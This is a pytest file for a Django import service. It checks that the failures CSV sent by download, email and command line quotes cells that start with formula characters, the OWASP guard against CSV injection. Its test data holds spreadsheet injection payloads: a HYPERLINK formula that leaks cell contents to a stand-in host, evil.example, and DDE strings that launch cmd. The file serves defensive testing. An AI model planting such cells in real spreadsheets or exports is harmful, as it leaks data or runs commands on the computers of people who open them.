"""Spreadsheet formula injection: every CSV the service writes neutralises formula-like cells.

OWASP's advice (CSV Injection): a cell that starts with =, +, -, @, tab or
carriage return is run by a spreadsheet as a formula, so it is written with a
leading single quote, which spreadsheets read as "this is text". The service
writes CSV in one place, the failures CSV, which reaches people three ways:
the API download, the email attachment and the admin/command line (the same
function). An uploaded file is full of cells a stranger typed.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail

from imports.failures import FORMULA_TRIGGERS, failures_csv_text, neutralize
from imports.models import Import
from tests.imports.helpers import imports_path, make_import

pytestmark = pytest.mark.django_db

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_HEADER = "=Notes"


@pytest.mark.parametrize("cell", HOSTILE_CELLS + ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_with_a_formula_trigger_is_quoted(cell):
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Ann", "ann@example.com", "1-2", " =1+1", "'=already quoted", "Lee, Ann"])
def test_a_plain_cell_is_left_as_it_is(cell):
    assert neutralize(cell) == cell


def test_the_triggers_are_owasps():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def hostile_csv() -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["First Name", "Last Name", "Email", HOSTILE_HEADER])
    writer.writerow(["Ann", "Lee", "ann@example.com", "a fine note"])
    for cell in HOSTILE_CELLS:
        # No name: each of these rows fails, so its cells go to the failures CSV as they were written.
        writer.writerow(["", "", cell, cell])
    return buffer.getvalue().encode()


@pytest.fixture
def failed_import(member, account_list):
    mappings = {"first_name": "first_name", "last_name": "last_name", "email_1": "email", "notes": "notes"}
    record = make_import(account_list=account_list, user=member.user, content=hostile_csv(), mappings=mappings)
    assert record.status == Import.Status.COMPLETE and record.rows_failed == len(HOSTILE_CELLS)
    return record


def assert_neutralised(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Error Message", "First Name", "Last Name", "Email", "'" + HOSTILE_HEADER]
    failed = rows[1:]
    assert len(failed) == len(HOSTILE_CELLS)
    for row, cell in zip(failed, HOSTILE_CELLS, strict=True):
        assert row[0].startswith("Line ")
        assert row[3] == row[4] == "'" + cell  # quoted, and otherwise exactly as the person wrote it
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_TRIGGERS), value


def test_the_failures_download_neutralises_formulas(api, account_list, failed_import):
    response = api.client.get(imports_path(account_list, f"/{failed_import.pk}/failures"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert_neutralised(b"".join(response.streaming_content).decode())


def test_the_email_attachment_neutralises_formulas(failed_import):
    message = mail.outbox[-1]
    assert message.to == [failed_import.user.email]
    (filename, content, mimetype) = message.attachments[0]
    assert filename.endswith(".csv") and mimetype == "text/csv"
    assert_neutralised(content)


def test_the_command_line_and_admin_text_neutralises_formulas(failed_import):
    assert_neutralised(failures_csv_text(failed_import))
